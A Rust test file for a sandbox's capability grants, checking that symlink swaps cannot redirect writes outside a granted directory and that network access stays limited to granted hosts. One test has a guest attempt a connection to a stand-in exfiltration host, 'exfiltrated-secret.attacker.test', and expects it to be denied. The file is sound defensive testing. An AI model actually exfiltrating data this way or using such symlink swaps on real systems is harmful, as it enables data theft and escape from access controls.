use super::{cached_builder as builder, exists, fs};
use chaos_core::grants::{Allowance, Grants, Permissions};
use chaos_sandbox::{CallError, CallOptions, GrantError, PreparedGrants};
use serde_json::json;
use std::path::{Path, PathBuf};
use std::sync::Arc;

fn read(path: &str) -> Grants {
    Grants { read: vec![path.to_string()], ..Grants::default() }
}

#[tokio::test]
async fn grants_prepared_once_apply_to_every_call() {
    let base = tempfile::tempdir().unwrap();
    std::fs::write(base.path().join("f.txt"), "x").unwrap();
    let grants = PreparedGrants::prepare(&read("."), base.path(), |_| None).await.unwrap();
    let options = CallOptions { grants: Arc::new(grants), ..CallOptions::new("t") };
    let sandbox = builder().build().unwrap();
    let component = sandbox.load(&fs()).await.unwrap();
    for _ in 0..2 {
        assert_eq!(exists(&sandbox, &component, "./f.txt", &options).await, json!(true));
    }
}

/// Replaces the directory at `path` by a symlink to `target` (the
/// directory itself is moved aside, as an attacker's rename would).
fn swap_for_symlink(path: &Path, target: &str) {
    std::fs::rename(path, path.with_extension("moved")).unwrap();
    std::os::unix::fs::symlink(target, path).unwrap();
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_granted_directory_replaced_by_a_symlink_after_preparing_is_still_the_one_each_call_opens() {
    let base = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(base.path().join("data/sub")).unwrap();
    std::fs::create_dir(base.path().join("victim")).unwrap();
    let allowed =
        Permissions { write: Allowance::Only(vec![PathBuf::from("./data")]), ..Permissions::deny_all(base.path()) };
    let write = Grants { write: vec!["./data/sub".to_string()], ..Grants::default() };
    let grants = PreparedGrants::prepare_within(&write, base.path(), &allowed, |_| None).await.unwrap();
    swap_for_symlink(&base.path().join("data/sub"), "../victim");
    let options = CallOptions { grants: Arc::new(grants), ..CallOptions::new("t") };
    let sandbox = builder().build().unwrap();
    let component = sandbox.load(&fs()).await.unwrap();
    let args = json!({"path": "./data/sub/planted.txt", "content": "x"});
    sandbox.call(&component, "write", &args, &options).await.unwrap();
    assert!(!base.path().join("victim/planted.txt").exists(), "the write followed the swapped path");
    assert!(base.path().join("data/sub.moved/planted.txt").exists(), "the write went to the granted directory");
}

#[tokio::test]
async fn a_symlink_leaving_the_allowance_planted_before_preparing_fails_the_call_naming_the_path() {
    let base = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(base.path().join("data")).unwrap();
    std::fs::create_dir(base.path().join("victim")).unwrap();
    std::os::unix::fs::symlink("../victim", base.path().join("data/sub")).unwrap();
    let allowed =
        Permissions { write: Allowance::Only(vec![PathBuf::from("./data")]), ..Permissions::deny_all(base.path()) };
    let write = Grants { write: vec!["./data/sub".to_string()], ..Grants::default() };
    let err = PreparedGrants::prepare_within(&write, base.path(), &allowed, |_| None).await.unwrap_err();
    let err = CallError::from(err);
    assert!(
        err.to_string().starts_with("could not be given its grants: granted path `./data/sub` does not stay within"),
        "{err}"
    );
}

#[tokio::test]
async fn a_missing_directory_is_refused_when_preparing() {
    let base = tempfile::tempdir().unwrap();
    let err = PreparedGrants::prepare(&read("missing"), base.path(), |_| None).await.unwrap_err();
    assert!(matches!(err, GrantError::NotADirectory { .. }), "{err}");
}

fn net() -> chaos_core::experiment::ComponentRef {
    chaos_core::experiment::ComponentRef::Builtin("net".into())
}

async fn net_options(hosts: &[String]) -> CallOptions {
    let grants = Grants { net: hosts.to_vec(), ..Grants::default() };
    let prepared = PreparedGrants::prepare(&grants, std::path::Path::new("."), |_| None).await.unwrap();
    CallOptions { grants: Arc::new(prepared), ..CallOptions::new("t") }
}

#[tokio::test]
async fn a_guest_lookup_of_a_granted_name_answers_its_addresses() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let options = net_options(&[format!("localhost:{port}")]).await;
    let sandbox = builder().build().unwrap();
    let component = sandbox.load(&net()).await.unwrap();
    let out = sandbox.call(&component, "tcp_connect", &json!({"host": "localhost", "port": port}), &options).await;
    assert_eq!(out.unwrap()["connected"], json!(true));
}

#[tokio::test]
async fn a_guest_lookup_of_a_name_not_granted_is_denied() {
    let options = net_options(&["localhost:9".to_string()]).await;
    let sandbox = builder().build().unwrap();
    let component = sandbox.load(&net()).await.unwrap();
    let err = sandbox
        .call(&component, "tcp_connect", &json!({"host": "exfiltrated-secret.attacker.test", "port": 9}), &options)
        .await
        .unwrap_err();
    assert!(
        matches!(err, CallError::CapabilityDenied(ref m) if m.contains("resolving exfiltrated-secret.attacker.test")),
        "{err}"
    );
}

#[tokio::test]
async fn a_guest_lookup_without_a_net_grant_is_denied() {
    let sandbox = builder().build().unwrap();
    let component = sandbox.load(&net()).await.unwrap();
    let err = sandbox
        .call(&component, "tcp_connect", &json!({"host": "localhost", "port": 9}), &CallOptions::new("t"))
        .await
        .unwrap_err();
    assert!(matches!(err, CallError::CapabilityDenied(_)), "{err}");
}

/// A TLS server on 127.0.0.1 with a self-signed certificate for
/// `localhost`, answering one request with `over tls`; returns its port and
/// the certificate (DER).
async fn localhost_tls_server() -> (u16, Vec<u8>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio_rustls::rustls;
    let cert = rcgen::generate_simple_self_signed(vec!["localhost".to_string()]).unwrap();
    let der = cert.cert.der().to_vec();
    let key = rustls::pki_types::PrivatePkcs8KeyDer::from(cert.signing_key.serialize_der());
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![der.clone().into()], key.into())
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let (tcp, _) = listener.accept().await.unwrap();
        let mut tls = acceptor.accept(tcp).await.unwrap();
        let mut head = vec![0u8; 4096];
        let _ = tls.read(&mut head).await.unwrap();
        let response =
            "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 8\r\nconnection: close\r\n\r\nover tls";
        tls.write_all(response.as_bytes()).await.unwrap();
        let _ = tls.shutdown().await;
    });
    (port, der)
}

#[tokio::test]
async fn wasi_http_reaches_a_granted_https_host_whose_ca_the_sandbox_was_given() {
    let (port, ca) = localhost_tls_server().await;
    let sandbox = builder().add_root_certificate(ca).build().unwrap();
    let component = sandbox.load(&chaos_core::experiment::ComponentRef::Builtin("http".into())).await.unwrap();
    let options = net_options(&[format!("localhost:{port}")]).await;
    let url = format!("https://localhost:{port}/");
    let out = sandbox.call(&component, "request", &json!({"url": url}), &options).await.unwrap();
    assert_eq!(out["status"], json!(200), "{out}");
    assert_eq!(out["body"], json!("over tls"), "{out}");
}
